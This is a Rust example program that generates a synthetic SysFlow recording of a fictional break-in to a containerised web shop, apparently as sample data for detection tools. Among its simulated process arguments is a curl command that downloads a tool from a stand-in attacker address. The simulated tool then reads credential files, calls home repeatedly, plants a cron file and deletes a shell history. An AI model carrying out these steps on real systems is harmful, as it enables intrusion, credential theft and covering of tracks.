//! Writes the recording `examples/web-intrusion.sf`: a made-up intrusion into a small web shop.
//!
//! ```text
//! cargo run -p sysflow-record --example web_intrusion -- examples/web-intrusion.sf
//! ```
//!
//! The shop runs in a container. Customers come and go; among them one uploads a script through a hole in the
//! application. The script fetches a tool, which reads the shop's credentials, calls home every few seconds,
//! plants a scheduled task and removes a history file. Addresses are from the ranges for documentation.

use std::error::Error;
use std::fs::File;
use std::net::Ipv4Addr;

use sysflow_record::container::{WriteOptions, Writer};
use sysflow_record::model::{
    Container, ContainerType, File as FileEntity, FileEvent, FileFlow, Header, NetworkFlow,
    ObjectState, Process, ProcessEvent, ResourceType,
};
use sysflow_record::{Foid, Oid, OpFlags, OpenFlags, Record};

type Result<T> = std::result::Result<T, Box<dyn Error>>;

const MILLISECOND: i64 = 1_000_000;
const CONTAINER: &str = "5e2a91c07b3d";
const CUSTOMER: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 17);
const INTRUDER: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 23);
const HOME: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 80);
const SHOP: Ipv4Addr = Ipv4Addr::new(10, 0, 7, 4);

struct Story {
    writer: Writer<File>,
    /// ns since the epoch.
    now: i64,
    next_pid: i64,
}

/// A process of the story.
#[derive(Clone, Copy)]
struct Actor {
    oid: Oid,
    parent: Option<Oid>,
    container: Option<&'static str>,
}

impl Story {
    fn after(&mut self, milliseconds: i64) {
        self.now += milliseconds * MILLISECOND;
    }

    fn tell(&mut self, record: &Record<'_>) -> Result<()> {
        Ok(self.writer.write(record)?)
    }

    fn process(&mut self, actor: Actor, state: ObjectState, exe: &str, args: &str) -> Result<()> {
        let root = actor.container.is_none() || args.contains("cron");
        let (uid, user) = if root { (0, "root") } else { (33, "www-data") };
        self.tell(&Record::Process(Process {
            state,
            oid: actor.oid,
            poid: actor.parent,
            ts: self.now,
            exe: exe.into(),
            exe_args: args.into(),
            uid,
            user_name: user.into(),
            gid: uid,
            group_name: user.into(),
            container_id: actor.container.map(Into::into),
            cwd: "/srv/shop/".into(),
            ..Process::default()
        }))
    }

    /// A process that was there before the recording began.
    fn old_process(
        &mut self,
        pid: i64,
        parent: Option<Actor>,
        exe: &str,
        args: &str,
    ) -> Result<Actor> {
        let oid = Oid {
            create_ts: self.now - 86_400_000 * MILLISECOND,
            hpid: pid,
        };
        let container = (pid > 100).then_some(CONTAINER);
        let actor = Actor {
            oid,
            parent: parent.map(|parent| parent.oid),
            container,
        };
        self.process(actor, ObjectState::REUP, exe, args)?;
        Ok(actor)
    }

    /// `parent` starts a process, which executes a program.
    fn spawn(&mut self, parent: Actor, exe: &str, args: &str) -> Result<Actor> {
        self.after(2);
        let oid = Oid {
            create_ts: self.now,
            hpid: self.next_pid,
        };
        self.next_pid += 1;
        let actor = Actor {
            oid,
            parent: Some(parent.oid),
            container: parent.container,
        };
        self.event(parent, OpFlags::CLONE, oid.hpid as i32)?;
        self.after(1);
        self.process(actor, ObjectState::CREATED, exe, args)?;
        self.event(actor, OpFlags::EXEC, 0)?;
        Ok(actor)
    }

    fn event(&mut self, actor: Actor, op_flags: OpFlags, ret: i32) -> Result<()> {
        self.tell(&Record::ProcessEvent(ProcessEvent {
            proc_oid: actor.oid,
            ts: self.now,
            tid: actor.oid.hpid,
            op_flags,
            ret,
            ..ProcessEvent::default()
        }))
    }

    fn exit(&mut self, actor: Actor) -> Result<()> {
        self.after(3);
        self.event(actor, OpFlags::EXIT, 0)
    }

    fn file(&mut self, actor: Actor, path: &str) -> Result<Foid> {
        let oid = Foid::of(
            actor.container.unwrap_or_default().as_bytes(),
            path.as_bytes(),
        );
        self.tell(&Record::File(FileEntity {
            state: ObjectState::REUP,
            oid,
            ts: self.now,
            kind: ResourceType::FILE,
            path: path.into(),
            container_id: actor.container.map(Into::into),
            ..FileEntity::default()
        }))?;
        Ok(oid)
    }

    fn read(&mut self, actor: Actor, path: &str, bytes: i64) -> Result<()> {
        self.file_flow(actor, path, OpFlags::READ_RECV, OpenFlags::RDONLY, bytes)
    }

    fn write(&mut self, actor: Actor, path: &str, bytes: i64) -> Result<()> {
        let open = OpenFlags::WRONLY | OpenFlags::CREAT | OpenFlags::TRUNC;
        self.file_flow(actor, path, OpFlags::WRITE_SEND, open, bytes)
    }

    fn file_flow(
        &mut self,
        actor: Actor,
        path: &str,
        transfer: OpFlags,
        open_flags: OpenFlags,
        bytes: i64,
    ) -> Result<()> {
        self.after(1);
        let file_oid = self.file(actor, path)?;
        let start = self.now;
        self.after(1);
        let reading = transfer == OpFlags::READ_RECV;
        let (read, written) = if reading { (bytes, 0) } else { (0, bytes) };
        self.tell(&Record::FileFlow(FileFlow {
            proc_oid: actor.oid,
            ts: start,
            tid: actor.oid.hpid,
            op_flags: OpFlags::OPEN | transfer | OpFlags::CLOSE,
            open_flags,
            end_ts: self.now,
            file_oid,
            fd: 11,
            read_ops: i64::from(reading),
            write_ops: i64::from(!reading),
            read_bytes: read,
            write_bytes: written,
            ..FileFlow::default()
        }))
    }

    fn remove(&mut self, actor: Actor, path: &str) -> Result<()> {
        self.after(1);
        let file_oid = self.file(actor, path)?;
        self.tell(&Record::FileEvent(FileEvent {
            proc_oid: actor.oid,
            ts: self.now,
            tid: actor.oid.hpid,
            op_flags: OpFlags::UNLINK,
            file_oid,
            ..FileEvent::default()
        }))
    }

    /// A connection from `source` to `destination`, of which `actor` is one end.
    fn connection(
        &mut self,
        actor: Actor,
        op_flags: OpFlags,
        (source, sport): (Ipv4Addr, i32),
        (destination, dport): (Ipv4Addr, i32),
        (received, sent): (i64, i64),
    ) -> Result<()> {
        let start = self.now;
        self.after(8);
        let all = op_flags | OpFlags::READ_RECV | OpFlags::WRITE_SEND | OpFlags::CLOSE;
        self.tell(&Record::NetworkFlow(NetworkFlow {
            proc_oid: actor.oid,
            ts: start,
            tid: actor.oid.hpid,
            op_flags: all,
            end_ts: self.now,
            sip: source,
            sport,
            dip: destination,
            dport,
            proto: 6,
            fd: 9,
            read_ops: 1 + received / 1448,
            write_ops: 1 + sent / 1448,
            read_bytes: received,
            write_bytes: sent,
            ..NetworkFlow::default()
        }))
    }

    fn customer(&mut self, shop: Actor, visit: i32) -> Result<()> {
        self.after(700);
        let from = (CUSTOMER, 40_000 + visit);
        let bytes = (i64::from(380 + visit % 7), i64::from(5_200 + 13 * visit));
        self.connection(shop, OpFlags::ACCEPT, from, (SHOP, 3000), bytes)?;
        self.read(shop, "/srv/shop/catalogue.json", 18_220)?;
        if visit % 5 == 0 {
            let resize = self.spawn(shop, "/bin/sh", "-c convert upload.png thumb.png")?;
            self.exit(resize)?;
        }
        Ok(())
    }
}

fn main() -> Result<()> {
    let path = std::env::args()
        .nth(1)
        .ok_or("usage: web_intrusion OUTPUT.sf")?;
    // The same story gives the same bytes every time.
    let options = WriteOptions {
        sync: Some(*b"sysflow-example."),
        ..WriteOptions::CLASSIC
    };
    let writer = Writer::new(File::create(&path)?, options)?;
    let mut story = Story {
        writer,
        now: 1_767_258_000_000 * MILLISECOND,
        next_pid: 4711,
    };

    story.tell(&Record::Header(Header {
        exporter: "shop-host".into(),
        ip: "10.0.7.4".into(),
        filename: "web-intrusion.sf".into(),
        ..Header::default()
    }))?;
    let init = story.old_process(1, None, "/usr/lib/systemd/systemd", "")?;
    story.tell(&Record::Container(Container {
        id: CONTAINER.into(),
        name: "web-shop".into(),
        image: "example/web-shop:2.1".into(),
        image_id: "b7f3a0".into(),
        kind: ContainerType::DOCKER,
        ..Container::default()
    }))?;
    let shim = story.old_process(
        90,
        Some(init),
        "/usr/bin/containerd-shim",
        "-namespace moby",
    )?;
    let shop = story.old_process(
        2200,
        Some(shim),
        "/usr/local/bin/node",
        "/srv/shop/server.js",
    )?;

    for visit in 0..40 {
        story.customer(shop, visit)?;
    }

    // The upload: the request is larger than any before, and a file appears where none belongs.
    story.connection(
        shop,
        OpFlags::ACCEPT,
        (INTRUDER, 51_122),
        (SHOP, 3000),
        (2_941, 214),
    )?;
    story.write(shop, "/tmp/.thumb.sh", 1_873)?;
    let shell = story.spawn(shop, "/bin/sh", "-c sh /tmp/.thumb.sh")?;
    let script = story.spawn(shell, "/bin/sh", "/tmp/.thumb.sh")?;
    let fetch = story.spawn(
        script,
        "/usr/bin/curl",
        "-s -o /tmp/.cache-d http://203.0.113.80/d",
    )?;
    story.connection(
        fetch,
        OpFlags::CONNECT,
        (SHOP, 38_114),
        (HOME, 80),
        (412_008, 96),
    )?;
    story.write(fetch, "/tmp/.cache-d", 412_008)?;
    story.exit(fetch)?;
    let tool = story.spawn(script, "/tmp/.cache-d", "--quiet")?;
    story.read(tool, "/etc/passwd", 1_290)?;
    story.read(tool, "/srv/shop/credentials.json", 388)?;
    for beacon in 0..8 {
        story.connection(
            tool,
            OpFlags::CONNECT,
            (SHOP, 38_200 + beacon),
            (HOME, 443),
            (5_611, 1_204),
        )?;
        story.after(5_000);
        story.customer(shop, 100 + beacon)?;
    }
    story.write(tool, "/etc/cron.d/logrotate2", 71)?;
    story.remove(tool, "/home/admin/.bash_history")?;
    story.exit(tool)?;
    story.exit(script)?;
    story.exit(shell)?;

    for visit in 200..210 {
        story.customer(shop, visit)?;
    }
    story.writer.finish()?;
    Ok(())
}
